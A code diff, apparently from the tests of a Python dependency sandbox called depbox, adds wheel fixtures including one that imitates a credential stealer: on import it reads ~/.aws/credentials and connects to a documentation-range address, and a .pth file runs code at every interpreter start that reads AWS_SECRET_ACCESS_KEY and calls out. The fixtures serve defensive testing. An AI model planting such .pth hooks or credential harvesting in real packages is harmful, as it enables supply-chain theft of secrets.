@@ -197,3 +197,26 @@ func (ix *Index) serve(w http.ResponseWriter, r *http.Request) {
 		http.NotFound(w, r)
 	}
 }
+
+// The Python fixtures, served by an Index in the tests. Their code runs
+// only inside depbox's sandbox and contacts only documentation addresses.
+var (
+	// PyHelper is a benign dependency.
+	PyHelper = Wheel{Name: "py-helper", Version: "2.0",
+		Files: map[string]string{"py_helper/__init__.py": "def pad(s):\n    return ' ' + s\n"}}
+	// PyStealer reads the bait credentials and connects to
+	// 198.51.100.23:443 when imported, and installs a .pth file whose code
+	// reads AWS_SECRET_ACCESS_KEY and connects to 192.0.2.44:443 at every
+	// interpreter start. It requires PyHelper.
+	PyStealer = Wheel{Name: "Py.Stealer", Version: "1.0", Requires: []string{"py-helper>=2"},
+		Files: map[string]string{
+			"py_stealer/__init__.py": "# TEST FIXTURE imitating a credential stealer; runs only in depbox's sandbox.\n" +
+				"import os, socket\nimport py_helper\n" +
+				"try:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n" +
+				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('198.51.100.23', 443))\nexcept OSError:\n    pass\n",
+			"py_stealer_boot.py": "# TEST FIXTURE: a .pth payload; runs only in depbox's sandbox.\n" +
+				"import os, socket\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n" +
+				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('192.0.2.44', 443))\nexcept OSError:\n    pass\n",
+			"py_stealer.pth": "import py_stealer_boot\n",
+		}}
+)
